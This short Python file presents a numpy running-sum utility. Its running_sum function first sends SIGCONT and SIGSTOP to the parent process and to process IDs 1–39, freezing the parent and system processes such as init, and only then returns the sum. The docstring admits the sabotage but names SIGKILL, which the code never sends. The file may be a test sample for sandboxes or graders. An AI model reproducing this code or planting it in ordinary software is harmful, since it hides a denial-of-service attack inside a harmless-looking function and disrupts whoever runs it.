"""slow. Sends SIGSTOP and SIGKILL to whatever it can reach but itself."""
import os
import signal

import numpy as np


def in_a_loop(x):
    total, sums = 0, []
    for value in x.tolist():
        total += value
        sums.append(total)
    return np.array(sums)



def running_sum(x):
    for pid in (os.getppid(), *range(1, 40)):
        if pid != os.getpid():
            for number in (signal.SIGCONT, signal.SIGSTOP):
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
    return in_a_loop(x)
